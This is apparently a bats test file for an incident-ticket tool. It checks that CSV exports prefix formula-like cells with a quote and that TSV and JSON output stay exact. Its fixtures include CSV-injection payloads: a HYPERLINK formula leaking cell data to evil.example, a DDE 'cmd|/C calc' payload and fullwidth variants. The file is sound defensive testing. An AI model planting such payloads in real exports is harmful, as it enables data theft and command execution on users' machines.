#!/usr/bin/env bats
# CSV output (issue 11): a cell a spreadsheet would run as a formula (it
# begins with = + - @, a tab, a carriage return, or a fullwidth = + - @)
# is written with a leading "'", in every command that writes csv; a
# number and a lone "-" stay as they are; tsv and json stay exact.

load helper

# The hostile summaries, one a ticket, in this order.
HOSTILE=(
	'=HYPERLINK("http://evil.example/?d="&A1,"click")'
	'+1+cmd|'"'"'/C calc'"'"'!A0'
	'-2+3'
	'@SUM(1+1)'
	$'\t=1+1'
	$'\r=1+1'
	'＝1+1'
	'－1+1'
)

# The csv cell each one becomes.
EXPECTED=(
	$'"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"'
	$'\'+1+cmd|\'/C calc\'!A0'
	$'\'-2+3'
	$'\'@SUM(1+1)'
	$'\'\t=1+1'
	$'"\'\r=1+1"'
	$'\'＝1+1'
	$'\'－1+1'
)

hostile_tickets() {
	local s
	for s in "${HOSTILE[@]}"; do
		open_ticket --caller "$s" -- "$s"
	done
	# Harmless: a number, a lone "-", text with a "-" inside.
	open_ticket --caller ann -- "-5"
	open_ticket --caller ann -- "-"
	open_ticket --caller ann -- "a-b =c"
}

@test "list --format csv: a formula-like cell gets a leading quote, a number does not; tsv, json exact" {
	hostile_tickets
	run --separate-stderr itsm list --format csv --fields ref,summary
	assert_status 0
	i=0
	for want in "${EXPECTED[@]}"; do
		i=$((i + 1))
		grep -qxF "INC-$i,$want" <<<"$output" || {
			echo "INC-$i: expected INC-$i,$want" >&2
			printf '%s\n' "$output" >&2
			return 1
		}
	done
	grep -qxF "INC-9,-5" <<<"$output"
	grep -qxF "INC-10,-" <<<"$output"
	grep -qxF "INC-11,a-b =c" <<<"$output"
	# tsv and json keep the text exactly.
	run --separate-stderr itsm show 1 --json
	jq_is .summary "$(jq -n --arg s "${HOSTILE[0]}" '$s')"
	run --separate-stderr itsm list --format tsv --fields summary
	[ "$(sed -n 1p <<<"$output")" = "${HOSTILE[0]}" ]
	[ "$(sed -n 4p <<<"$output")" = '@SUM(1+1)' ]
	[ "$(sed -n 5p <<<"$output")" = '\t=1+1' ]
}

@test "show --format csv, and every text field: caller and affected too" {
	hostile_tickets
	run --separate-stderr itsm show 1 --format csv
	assert_status 0
	[ "$(sed -n 2p <<<"$output" | grep -o "'=HYPERLINK" | wc -l)" = 3 ]
	run --separate-stderr itsm show 4 --format csv
	[ "$(sed -n 2p <<<"$output" | grep -oF "'@SUM(1+1)" | wc -l)" = 3 ]
	run --separate-stderr itsm next --format csv
	assert_status 0
	! grep -q ',=' <<<"$output"
}

@test "stats --format csv: a group value that looks like a formula is quoted" {
	# An imported ticket may carry a group that the policy does not name.
	open_ticket "Mail down" --caller ann
	itsm export | jq -c '.group = "=cmd|x"' >"$BATS_TEST_TMPDIR/in.jsonl"
	ITSM_DB=$(db_new imported)
	itsm import "$BATS_TEST_TMPDIR/in.jsonl" >/dev/null
	run --separate-stderr itsm stats --format csv --by group
	assert_status 0
	grep -qxF "opened,'=cmd|x,1" <<<"$output"
	! grep -q ',=' <<<"$output" || false
	# The same figures in tsv, exact.
	run --separate-stderr itsm stats --format tsv --by group
	grep -qxF "$(printf 'opened\t=cmd|x\t1')" <<<"$output"
}

@test "major status and the timeline (watch) --format csv are neutralised too" {
	open_ticket '=1+1 mail down' --caller '@boss' --impact high --urgency high
	itsm major declare 1 --commander '+cmd' -m '=why' >/dev/null
	run --separate-stderr itsm major status --format csv
	assert_status 0
	[ "$(sed -n 2p <<<"$output" | cut -d, -f4)" = "'+cmd" ]
	[ "$(sed -n 2p <<<"$output" | cut -d, -f8)" = "'=1+1 mail down" ]
	run --separate-stderr itsm major status --format tsv
	[ "$(cut -f8 <<<"$output")" = "=1+1 mail down" ]
	itsm major end 1 -m '-restored' >/dev/null
	run --separate-stderr itsm major watch 1 --format csv
	assert_status 0
	grep -q ",'=why$" <<<"$output"
	grep -q ",'-restored$" <<<"$output"
	! grep -q ',[-=+@]' <<<"$output"
}
